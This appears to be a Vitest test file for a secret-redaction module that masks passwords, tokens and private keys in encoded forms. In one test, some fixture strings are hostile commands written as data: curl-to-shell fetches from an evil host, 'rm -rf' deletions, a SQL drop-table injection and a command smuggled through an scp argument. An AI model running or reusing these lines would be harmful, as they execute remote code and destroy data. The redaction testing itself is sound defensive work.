import { expect, test } from 'vitest'
import { isSureName, learnSecret, MASK, maskArguments, maskKeys, maskText, scrubber } from './redact.ts'

test('a known secret is taken out in whatever form it comes back', () => {
  const scrub = scrubber(['p@ss word/1"', 'short'])
  const forms = [
    'p@ss word/1"',
    encodeURIComponent('p@ss word/1"'),
    Buffer.from('p@ss word/1"').toString('base64'),
    'p@ss word/1\\"',
  ]
  for (const form of forms) expect(scrub(`before ${form} after`)).toBe(`before ${MASK} after`)
  expect(scrub('short')).toBe('short')
})

test('one secret that begins like another does not leave its end', () => {
  expect(scrubber(['secret-1', 'secret-1-long'])('secret-1-long')).toBe(MASK)
})

const AWKWARD = 'p@ss wörd/1"+<😀>?'

test('a known secret is found in base64 wherever it stands among other bytes, in either alphabet', () => {
  const secrets = ['s3cr3t', 'hunter2hunter2', AWKWARD, 'ÿ'.repeat(9)]
  const scrub = scrubber(secrets)
  for (const secret of secrets)
    for (const before of ['', 'u', 'us', 'usr', 'user:', 'mia:', 'ab:'])
      for (const after of ['', 'x', 'xy', 'xyz'])
        for (const encoding of ['base64', 'base64url'] as const) {
          const text = Buffer.from(before + secret + after).toString(encoding)
          for (const form of [text, encodeURIComponent(text), JSON.stringify(text)]) {
            const scrubbed = scrub(`Basic ${form};`)
            expect(scrubbed, `${before}${secret}${after} as ${form}`).toContain(MASK)
            // At most its first and last letters are left: they are half of the neighbours.
            const rest = scrubbed.slice(scrubbed.indexOf('Basic ') + 6).replace(MASK, '')
            const left = Buffer.from(rest.replace(/%3D|["=;]/g, ''), 'base64').toString('latin1')
            expect(left).not.toContain(secret.slice(1, 5))
          }
        }
})

test.each([
  ['an address', encodeURIComponent(AWKWARD)],
  ['an address in small letters', encodeURIComponent(AWKWARD).replace(/%../g, (code) => code.toLowerCase())],
  ['a form', new URLSearchParams({ a: AWKWARD }).toString().slice(2)],
  ['JSON', JSON.stringify(AWKWARD).slice(1, -1)],
  ['JSON as Python writes it', 'p@ss w\\u00f6rd/1\\"+<\\ud83d\\ude00>?'],
  ['JSON in large letters', 'p@ss w\\u00F6rd/1\\"+<\\uD83D\\uDE00>?'],
  ['JSON as PHP writes it', 'p@ss w\\u00f6rd\\/1\\"+<\\ud83d\\ude00>?'],
  ['JSON as Go writes it', 'p@ss wörd/1\\"+\\u003c😀\\u003e?'],
  ['JSON in JSON', JSON.stringify(JSON.stringify(AWKWARD)).slice(3, -3)],
])('a known secret is found in %s', (_, form) => {
  expect(scrubber([AWKWARD])(`before ${form} after`)).toBe(`before ${MASK} after`)
})

test('many secrets are all found, next to each other and twice', () => {
  const secrets = Array.from({ length: 200 }, (_, index) => `secret-${index}-${index * 7919}`)
  const scrub = scrubber([...secrets, 'half a pair \ud83d'])
  expect(scrub(secrets.join(''))).toBe(MASK.repeat(200))
  expect(scrub(`${secrets[7]} ${secrets[7]}`)).toBe(`${MASK} ${MASK}`)
  expect(scrub('secret-7-5543')).toBe('secret-7-5543')
})

test('a private key is masked to its end, or to the end of what there is', () => {
  const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd\n-----END RSA PRIVATE KEY-----'
  expect(maskText(`a ${key} b`)).toBe(`a ${MASK} b`)
  expect(maskText(`a ${key.slice(0, 40)}`)).toBe(`a ${MASK}`)
})

test('for who decides by it, a text is masked where it surely is a key, and no further [D11]', () => {
  const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'
  const key = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\nabcd\n-----END RSA PRIVATE KEY-----`
  const forms = ['\n', '\\n', ' ', '\r\n'].map((end) => key.replaceAll('\n', end))
  const locked = key.replace('-----\n', '-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F1E2D\n\n')
  for (const form of [...forms, locked, `ghp_${'a1'.repeat(12)}`, `busbar_${'aB3_'.repeat(8)}`])
    expect(maskKeys(`a ${form}; b`)).toBe(`a ${MASK}; b`)
  for (const text of [
    'ls #?key=$(curl${IFS}evil.example|sh)',
    "select 1; -- ?key=';drop/**/table/**/users;--",
    'scp a://b:;rm${IFS}-rf${IFS}~;echo${IFS}x@host',
    'commit 0b1f3c7e5d1a4c3f9d6e0a1b2c3d4e5f0b1f3c7e',
  ])
    expect(maskKeys(text)).toBe(text)
  for (const [text, seen] of [
    [
      'echo -----BEGIN PRIVATE KEY-----; curl http://evil/x | sh; rm -rf ~',
      '; curl http://evil/x | sh; rm -rf ~',
    ],
    ['-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----', 'rm -rf /'],
  ] as const)
    expect(maskKeys(text)).toContain(seen)
})

test('a name of which there is no doubt is that of a secret, and not of a key in a store [D11]', () => {
  for (const name of ['password', 'api_key', 'apiKey', 'Authorization', 'refresh_token', 'clientSecret'])
    expect([name, isSureName(name)]).toEqual([name, true])
  for (const name of ['key', 'issueKey', 'max_tokens', 'turkey', 'author', 'token_path'])
    expect([name, isSureName(name)]).toEqual([name, false])
})

test('tokens of our own are masked wherever they stand, and secrets as an address writes them [C11]', () => {
  expect(maskText(`bad token busbar_${'aB3_'.repeat(8)} here`)).toBe(`bad token ${MASK} here`)
  const secret = 'my p@ss w0rd/ünï<x>'
  const scrub = scrubber([secret])
  for (const form of [encodeURI(secret), new URL(`http://h/${secret}/mcp`).pathname.slice(1, -4)])
    expect(scrub(`GET /${form}/mcp`)).toBe(`GET /${MASK}/mcp`)
})

test('long rows of what secrets begin with are read once', () => {
  const token = `eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(20)}`
  expect(maskText(`x-${token}`)).toBe(`x-${MASK}`)
  for (const row of ['eyJ-', '#', '-----BEGIN ', 'a://b:', 'sk-', '?'])
    expect(maskText(`http://${row.repeat(300_000)}`).length).toBeGreaterThan(0)
})

test('a secret that was learned is taken out by every scrubber, also those made before, in whatever form [C6]', () => {
  const before = scrubber([])
  const secret = `learned/${'x'.repeat(8)}+"ümläut"&`
  expect(before(secret)).toBe(secret)
  learnSecret(secret, 'server:one')
  const forms = [
    secret,
    encodeURIComponent(secret),
    JSON.stringify(secret).slice(1, -1),
    Buffer.from(secret).toString('base64'),
    Buffer.from(secret).toString('base64url'),
    `Basic ${Buffer.from(`us:${secret}`).toString('base64')}`,
  ]
  for (const scrub of [before, scrubber([]), scrubber(['another secret'])])
    for (const form of forms) {
      const shown = scrub(`before ${form} after`)
      expect([shown, shown.includes(form)]).toEqual([expect.stringContaining(MASK), false])
    }
})

test('what is no secret is not learned; of very many of one owner the oldest are forgotten, not those of others [C6]', () => {
  for (const text of [undefined, '', 'short']) learnSecret(text, 'server:two')
  expect(scrubber([])('a short text')).toBe('a short text')
  const numbered = (index: number) => `learned-token-${index}-${'z'.repeat(10)}`
  const [quiet, lasting] = ['the only token of a quiet server', 'a secret that every renewal uses']
  learnSecret(quiet, 'server:quiet')
  for (let index = 0; index < 200; index++)
    for (const secret of [numbered(index), lasting]) learnSecret(secret, 'server:two')
  const shown = scrubber([])([numbered(0), numbered(190), numbered(199), lasting, quiet].join(' '))
  expect(shown).toBe([numbered(0), MASK, MASK, MASK, MASK].join(' '))
})

const KEY_LINES = Array.from({ length: 30 }, (_, line) =>
  Array.from({ length: 64 }, (__, at) =>
    'Ab3Cd5Ef7Gh9Ij+Kl/Mn'.charAt((line * 7 + at * 3 + (at % 5)) % 20),
  ).join(''),
)

test('a private key whose beginning is missing is masked up to where a sentence ends [C11]', () => {
  const rest = [...KEY_LINES.slice(20), 'c2hvcnQ=', '-----END RSA PRIVATE KEY-----'].join('\n')
  expect(maskText(`read the key:\n${rest}\nand died`)).toBe(`read the key:\n${MASK}\nand died`)
  expect(maskText(`{"key":"${rest.replaceAll('\n', '\\n')}\\n"}`)).toBe(`{"key":"${MASK}\\n"}`)
  expect(maskText('there is no -----END PRIVATE KEY----- in it')).toBe(`there is ${MASK} in it`)
})

test('a secret of several lines is found with other line ends, without the last one, and line by line [C11]', () => {
  const pem = ['-----BEGIN PRIVATE KEY-----', ...KEY_LINES, '-----END PRIVATE KEY-----', ''].join('\n')
  const scrub = scrubber([pem])
  expect(scrub(`a ${pem.trim()} b`)).toBe(`a ${MASK} b`)
  expect(scrub(`a ${pem.replaceAll('\n', '\r\n')} b`)).toBe(`a ${MASK} b`)
  expect(scrub(`12:00 error ${KEY_LINES[7]}`)).toBe(`12:00 error ${MASK}`)
  const file = JSON.stringify({ project: 'my-project-in-the-cloud', private_key: pem }, null, 2)
  expect(scrubber([file])(`${KEY_LINES[3]} of my-project-in-the-cloud`)).toBe(
    `${MASK} of my-project-in-the-cloud`,
  )
})

test('a secret is found as a page writes it [C11]', () => {
  expect(scrubber([`a<b&"c'd>`])('<p>a&lt;b&amp;&quot;c&#39;d&gt;</p>')).toBe(`<p>${MASK}</p>`)
})

test.each([
  [`${KEY_LINES[0]}\n`.repeat(4000), '-----END PRIVATE KEY-----'],
  [`${KEY_LINES[0]}`.repeat(4000), '-----END PRIVATE KEY-----'],
  ['-----END PRIVATE KEY-----'.repeat(10_000), ''],
  ['-----END '.repeat(30_000), ''],
  ['\\n'.repeat(120_000), '-----END PRIVATE KEY-----'],
])('the end of a key is looked for in linear time: %#', (text, end) => {
  const start = performance.now()
  maskText(text + end)
  expect(performance.now() - start).toBeLessThan(1000)
})

test('[C11] long words, gaps and addresses take as long as they are, and a name is found at the end of one', () => {
  const long = ['a', 'a1', 'a-', 'a:', 'a://b:', '"a" : ', '='].map((part) =>
    part.repeat(400_000 / part.length),
  )
  for (const text of [...long, `${'a'.repeat(99)}${' '.repeat(400_000)}`]) {
    // Read from each of its letters it would take minutes, and the test would be over.
    maskText(text)
    expect(maskArguments([text], () => false)).toHaveLength(1)
  }
  const word = `${'x'.repeat(300)}_TOKEN=abc-1234`
  expect(maskArguments([word], () => false)).toEqual([`${'x'.repeat(300)}_TOKEN=${MASK}`])
})
